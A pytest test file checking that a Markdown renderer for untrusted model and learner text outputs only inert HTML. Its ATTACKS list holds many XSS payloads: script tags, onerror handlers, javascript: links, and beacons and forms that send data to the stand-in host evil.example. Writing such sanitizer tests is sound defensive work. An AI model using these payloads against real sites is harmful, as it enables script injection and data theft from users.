"""Texts of models and learners as HTML: nothing acts, nothing is fetched, nothing is hidden."""

import time

import pytest
from bs4 import BeautifulSoup
from hypothesis import given, settings
from hypothesis import strategies as st

from learn.content.markdown import MAX_UNTRUSTED, render_untrusted

TAGS = {"p", "ul", "ol", "li", "strong", "em", "code", "pre", "blockquote", "hr", "br", "span", "div"}
TAGS |= {"table", "thead", "tbody", "tr", "th", "td"}
ATTRIBUTES = {"class", "start", "scope", "tabindex", "role", "aria-label"}

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/beacon.png'>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<base href='https://evil.example/'><link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<form action='https://evil.example'><input name=password><button>OK</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<p style='background:url(https://evil.example)' onclick=alert(1)>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](https://evil.example/?q=secret)",
    "[x](//evil.example/a)",
    "[x](<javascript:alert(1)>)",
    "[x](https://evil.example 'title\" onmouseover=alert(1)')",
    "[x]: https://evil.example\n\n[x] và [x][x]",
    "![tin](https://evil.example/beacon.png?secret)",
    "![x](x\"onerror=alert(1))",
    "![x][y]\n\n[y]: https://evil.example/b.png",
    "[![tin](https://evil.example/a.png)](https://evil.example/b)",
    "<https://evil.example/a>",
    "<javascript:alert(1)>",
    "<mailto:a@evil.example> <a@evil.example>",
    "https://evil.example/a www.evil.example",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;svg/onload=alert(1)&#x3e;",
    "```html\n<script>alert(1)</script>\n```",
    "```\" onclick=alert(1)\nx\n```",
    "`<img src=x onerror=alert(1)>`",
    "> > - <script>alert(1)</script>\n> > - ![x](https://evil.example/a.png)",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "\x02wzxhzdk:0\x03 <b>x</b> \x02amp\x03",
    "/// html | script\nalert(1)\n///",
    "/// image\n    src: https://evil.example/a.png\n    alt: x\n///",
    "# <script>alert(1)</script>\n\n**<img src=x onerror=alert(1)>**",
    "{law:luat-134-2025} [x](lesson:bai-mot)",
    "<<script>alert(1)//<</script>",
    "<div data-lab=\"x\"></div>",
]  # fmt: skip


def check_inert(html: str) -> None:
    for tag in BeautifulSoup(html, "html5lib").body.find_all(True):
        assert tag.name in TAGS, html
        assert set(tag.attrs) <= ATTRIBUTES, html
        assert set(tag.get("class", ())) <= {"scroll-x", "num"}, html
        for value in tag.attrs.values():
            assert ":" not in str(value), html


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_leaves_anything_that_acts(attack: str):
    check_inert(render_untrusted(attack))
    check_inert(render_untrusted(f"Lời đầu **đậm {attack} đậm**\n\n- mục {attack}\n\n{attack}"))


@settings(max_examples=150, deadline=None, derandomize=True)
@given(st.lists(st.sampled_from([*ATTACKS, "\n", "> ", "- ", "`", "**", "[", "](", ")", "|", "```", "    ", "&"])))
def test_no_mixture_of_attacks_leaves_anything_that_acts(pieces: list[str]):
    check_inert(render_untrusted("".join(pieces)))


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("[đọc thêm](https://evil.example/a?b=c)", "đọc thêm (evil.example)"),
        ("[https://bank.example](https://evil.example)", "https://bank.example (evil.example)"),
        ("[evil.example](https://evil.example)", "evil.example"),
        ("![ảnh con mèo](https://evil.example/a.png)", "Hình: ảnh con mèo (evil.example)"),
        ("<https://evil.example/a>", "https://evil.example/a"),
        ("<b>x</b> & &lt;i&gt;", "<b>x</b> & <i>"),
        ("a < b > c", "a < b > c"),
    ],
)
def test_links_pictures_and_signs_become_words(text: str, words: str):
    assert BeautifulSoup(render_untrusted(text), "html.parser").get_text().strip() == words


@pytest.mark.parametrize("sign", ["\u202e", "\u2066", "\u200b", "\u200f", "\ufeff", "\u00ad", "\U000e0041", "\x1b"])
def test_unseen_and_direction_changing_signs_are_dropped(sign: str):
    assert render_untrusted(f"an{sign}toàn") == "<p>antoàn</p>"
    if ord(sign) > 0x9F:
        assert sign not in render_untrusted(f"an&#{ord(sign)};toàn `&#x{ord(sign):x};`")


def test_a_small_part_of_markdown_works():
    html = BeautifulSoup(
        render_untrusted("# Đề mục\n\n**đậm** *nghiêng* `mã`\nxuống dòng\n- một\n- hai\n\n> trích\n\n```\nmã\n```"),
        "html.parser",
    )
    names = [tag.name for tag in html.find_all(True)]
    assert names == [
        "p",
        "strong",
        "p",
        "strong",
        "em",
        "code",
        "br",
        "ul",
        "li",
        "li",
        "blockquote",
        "p",
        "pre",
        "code",
    ]


def test_a_very_long_text_is_shown_as_it_is():
    html = render_untrusted("<b>" + "a" * MAX_UNTRUSTED)
    assert html.startswith("<pre>&lt;b&gt;aaa")


@pytest.mark.parametrize(
    "piece",
    ["[", "![", "[a](", "[](", "*", "**a*", "_a ", "`", ">", "- ", "|", "<", "&", "\\", "<a ", "```\n", "- a\n", "1. "],
)
def test_no_text_takes_long(piece: str):
    text = (piece * MAX_UNTRUSTED)[:MAX_UNTRUSTED]
    before = time.thread_time()
    check_inert(render_untrusted(text))
    assert time.thread_time() - before < 5


def test_deep_nesting_is_survived():
    check_inert(render_untrusted("\n".join("  " * depth + "- a" for depth in range(130))))
    check_inert(render_untrusted("> " * 5_000 + "a"))
    assert render_untrusted("sau đó") == "<p>sau đó</p>"
